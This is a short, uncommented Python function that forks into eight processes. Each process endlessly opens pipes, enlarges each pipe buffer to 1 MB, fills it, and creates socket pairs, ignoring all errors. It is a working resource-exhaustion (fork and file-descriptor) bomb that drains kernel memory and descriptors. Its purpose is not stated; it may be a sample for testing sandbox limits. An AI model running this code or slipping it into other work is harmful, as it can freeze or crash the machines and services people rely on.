import fcntl, os, socket
def f(x):
    ends = []
    for _ in range(3): os.fork()
    while True:
        try:
            ends.append(os.pipe())
            fcntl.fcntl(ends[-1][1], 1031, 1 << 20)
            os.set_blocking(ends[-1][1], False)
            os.write(ends[-1][1], b"x" * (1 << 20))
            ends.append(socket.socketpair())
        except OSError: pass
